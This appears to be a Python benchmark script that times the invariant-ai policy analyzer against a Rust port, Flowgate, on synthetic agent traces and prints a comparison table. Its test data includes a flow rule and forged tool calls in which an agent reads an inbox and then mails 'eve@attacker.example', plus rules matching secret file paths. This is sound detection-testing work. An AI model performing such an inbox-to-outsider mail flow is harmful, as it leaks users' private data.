"""Times invariant-ai and Flowgate side by side on the same policies and traces, and prints a table.

The traces are blocks of four messages (a question, an assistant's message with one call, its answer, a closing
message), with exactly one pair of calls that the flow rule forbids. The original runs without its cap on evaluations.
"""

import argparse
import datetime
import json
import logging
import math
import os
import platform
import statistics
import subprocess
import sys
import tempfile
import time
from importlib.metadata import version
from pathlib import Path

os.environ["INVARIANT_MAX_ITERATIONS"] = "1000000000"
os.environ["LOCAL_POLICY"] = "1"
ROOT = Path(__file__).resolve().parents[2]
LENGTHS = (10, 100, 1000, 3000)
FLOW = """\
raise "mail to a stranger after the inbox was read" if:
    (call: ToolCall) -> (call2: ToolCall)
    call is tool:get_inbox
    call2 is tool:send_mail({to: "[a-z]+@attacker.example"})
"""


def message(index, length):
    """Returns the message at an index of a trace of this length."""
    block, part = divmod(index, 4)
    if part == 0:
        return {"role": "user", "content": f"Question {block}: what is in document {block} of the archive?"}
    if part == 1:
        return {"role": "assistant", "content": "Let me see.", "tool_calls": [call(block, length)]}
    if part == 2:
        return {"role": "tool", "tool_call_id": f"c{block}", "content": f"Document {block} is about matter {block % 7}."}
    return {"role": "assistant", "content": f"Document {block} is about matter {block % 7}."}


def call(block, length):
    """Returns the call of a block: the first call reads the inbox, and the last one sends mail to a stranger."""
    last = (length - 2) // 4
    if block == last:
        return made(f"c{block}", "send_mail", {"to": "eve@attacker.example", "subject": "x", "body": "y"})
    if block == 0:
        return made("c0", "get_inbox", {"n": 10})
    return made(f"c{block}", f"tool_{block % 20}", {"path": f"/archive/{block}.txt", "n": block})


def made(name, tool, arguments):
    """Returns a call in the format of messages."""
    return {"id": name, "type": "function", "function": {"name": tool, "arguments": arguments}}


def trace(length):
    """Returns a trace."""
    return [message(index, length) for index in range(length)]


def many_rules():
    """Returns fifty rules: 20 with patterns, 15 with regular expressions, 15 with a flow."""
    rules = []
    for index in range(20):
        rules.append(f'raise "pattern {index}" if:\n    (call: ToolCall)\n    call is tool:tool_{index}({{path: "/secret/{index}.*"}})')
    for index in range(15):
        rules.append(f'raise "regex {index}" if:\n    (m: Message)\n    m.role == "user"\n    match("Question [0-9]+: tell me secret {index}", m.content)')
    for index in range(15):
        rules.append(f'raise "flow {index}" if:\n    (a: ToolCall) -> (b: ToolCall)\n    a is tool:tool_{index}\n    b is tool:send_mail({{to: "nobody{index}@firm.example"}})')
    return "\n\n".join(rules) + "\n"


def appended():
    """Returns one more message with a call that the flow rule forbids."""
    return {"role": "assistant", "content": "One more.", "tool_calls": [made("more", "send_mail", {"to": "eve@attacker.example", "subject": "x", "body": "y"})]}


def median_of(run, budget=3.0, most=25):
    """Returns the median in milliseconds, of the runs that fit into a budget of seconds, and the result of the last run."""
    begun, times = time.perf_counter(), []
    while not times or (time.perf_counter() - begun < budget and len(times) < most):
        start = time.perf_counter()
        result = run()
        times.append((time.perf_counter() - start) * 1e3)
    # The first run is a warm-up, if there are others.
    return statistics.median(times[1:] or times), result


def note(text):
    """Prints the progress to standard error, separately from the table."""
    print(f"  {text}", file=sys.stderr, flush=True)


def time_original(workload):
    """Returns the original's milliseconds by row, and its findings."""
    from invariant.analyzer import Monitor
    from invariant.analyzer.policy import LocalPolicy

    logging.disable()
    rows, found = {}, {}
    policy = LocalPolicy.from_string(workload["flow"]["policy"])
    for messages in workload["flow"]["traces"]:
        note(f"original: flow rule, {len(messages)} messages")
        name = f"flow/{len(messages)}"
        rows[name], result = median_of(lambda: policy.analyze(messages))
        found[name] = len(result.errors)
    note("original: parsing 50 rules")
    rows["parse"], policy = median_of(lambda: LocalPolicy.from_string(workload["many"]["policy"]), budget=8)
    note("original: 50 rules")
    rows["many"], result = median_of(lambda: policy.analyze(workload["many"]["trace"]))
    found["many"] = len(result.errors)
    past = next(messages for messages in reversed(workload["flow"]["traces"]) if len(messages) <= 1000)
    note(f"original: one more call after {len(past)} messages")
    policy_text, pending = workload["flow"]["policy"], [workload["flow"]["call"]]
    monitors = [Monitor.from_string(policy_text) for _ in range(3)]
    # A monitor reports every finding once, so each monitor is called once.
    times = [median_of(lambda: monitor.check(past, pending), budget=0) for monitor in monitors]
    rows["append"], found["append"] = statistics.median(taken for taken, _ in times), len(times[-1][1])
    return rows, found


def time_ours(workload):
    """Returns our microseconds and findings by (what, workload, messages)."""
    with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
        json.dump(workload, file)
        file.flush()
        command = ["cargo", "run", "--profile", "dist", "--quiet", "--locked", "-p", "flowgate", "--example", "speed", "--", file.name]
        output = subprocess.run(command, cwd=ROOT, check=True, stdout=subprocess.PIPE, text=True).stdout
    lines = [json.loads(line) for line in output.splitlines()]
    return {(line["what"], line["workload"], line["messages"]): (line["us"], line["found"]) for line in lines}


def exponent(points):
    """Returns the exponent of the growth of time with length, fitted over (length, time)."""
    xs, ys = [math.log(x) for x, _ in points], [math.log(y) for _, y in points]
    mean_x, mean_y = statistics.fmean(xs), statistics.fmean(ys)
    return sum((x - mean_x) * (y - mean_y) for x, y in zip(xs, ys)) / sum((x - mean_x) ** 2 for x in xs)


def processor():
    """Returns the name of the processor."""
    with open("/proc/cpuinfo") as file:
        for line in file:
            if line.startswith("model name"):
                return line.split(":", 1)[1].strip()
    return platform.processor() or "unknown"


def print_heading():
    """Prints the date, the machine and the versions of the measurement."""
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
    load = ", ".join(f"{value:.2f}" for value in os.getloadavg())
    print(f"date {datetime.date.today()}  commit {commit}  invariant-ai {version('invariant-ai')}  Python {platform.python_version()}")
    print(f"{os.cpu_count()} x {processor()}  load {load}\n")


def row(name, original, ours, ours_with_parsing):
    """Prints one line of the table; the original is in milliseconds, ours in microseconds."""
    ratio = f"{original * 1e3 / ours:12,.0f}x"
    with_parsing = f"{ours_with_parsing:14,.1f}" if ours_with_parsing is not None else f"{'':>14}"
    print(f"{name:<44}{original:14,.2f}{ours:14,.1f}{with_parsing}{ratio}")


def print_table(workload, original, ours):
    """Prints the results of both sides."""
    print(f"{'median':<44}{'original, ms':>14}{'ours, us':>14}{'with reading':>14}{'ratio':>13}")
    lengths = [len(messages) for messages in workload["flow"]["traces"]]
    for length in lengths:
        both = [ours[(what, "flow", length)][0] for what in ("analyze", "both")]
        row(f"flow rule, {length} messages", original[f"flow/{length}"], *both)
    size = len(workload["many"]["trace"])
    row(f"50 rules, {size} messages", original["many"], *[ours[(what, "many", size)][0] for what in ("analyze", "both")])
    row("50 rules, parsed", original["parse"], ours[("parse_policy", "many", 0)][0], None)
    past = max(length for length in lengths if length <= 1000)
    row(f"one call more after {past} messages", original["append"], ours[("judge", "flow", past)][0], None)
    grown = [length for length in lengths if length >= 100]
    if len(grown) > 1:
        theirs = exponent([(length, original[f"flow/{length}"]) for length in grown])
        mine = exponent([(length, ours[("analyze", "flow", length)][0]) for length in grown])
        print(f"\ngrowth with the length, {grown[0]} to {grown[-1]} messages: original n^{theirs:.2f}, ours n^{mine:.2f}")
    calls = ", ".join(f"{ours[('judge', 'flow', length)][0]:.1f} us after {length}" for length in lengths)
    print(f"one call more, ours: {calls}")
    counts = sorted(size for what, name, size in ours if name == "rules")
    rules = ", ".join(f"{ours[('analyze', 'rules', count)][0]:.1f} us with {count:,}" for count in counts)
    grown = exponent([(count, ours[("analyze", "rules", count)][0]) for count in counts])
    print(f"rules about a tool each, ours, {size} messages: {rules}: rules^{grown:.2f}")


def check_findings(found, ours, workload):
    """Reports workloads for which the numbers of findings differ."""
    wrong = []
    for messages in workload["flow"]["traces"]:
        mine = ours[("analyze", "flow", len(messages))][1]
        if mine != found[f"flow/{len(messages)}"]:
            wrong.append(f"flow rule, {len(messages)} messages: original {found[f'flow/{len(messages)}']}, ours {mine}")
    mine = ours[("analyze", "many", len(workload["many"]["trace"]))][1]
    if mine != found["many"]:
        wrong.append(f"50 rules: original {found['many']}, ours {mine}")
    past = max(len(messages) for messages in workload["flow"]["traces"] if len(messages) <= 1000)
    mine = ours[("judge", "flow", past)][1]
    if mine != found["append"]:
        wrong.append(f"one call more: original {found['append']}, ours {mine}")
    for text in wrong:
        print(f"DIFFERENT FINDINGS: {text}")
    return not wrong


def main():
    """Measures both sides and prints the table."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true", help="leave out 3000 messages, which take the original half a minute")
    parser.add_argument("--json", type=Path, help="file for the numbers")
    options = parser.parse_args()
    lengths = LENGTHS[:-1] if options.quick else LENGTHS
    workload = {
        "flow": {"policy": FLOW, "traces": [trace(length) for length in lengths], "call": appended()},
        "many": {"policy": many_rules(), "trace": trace(100)},
    }
    note("ours")
    ours = time_ours(workload)
    original, found = time_original(workload)
    print_heading()
    print_table(workload, original, ours)
    same = check_findings(found, ours, workload)
    if options.json:
        rows = [{"what": what, "workload": name, "messages": size, "us": us} for (what, name, size), (us, _) in ours.items()]
        options.json.write_text(json.dumps({"original_ms": original, "ours": rows}, indent=1))
    sys.exit(0 if same else 1)


if __name__ == "__main__":
    main()
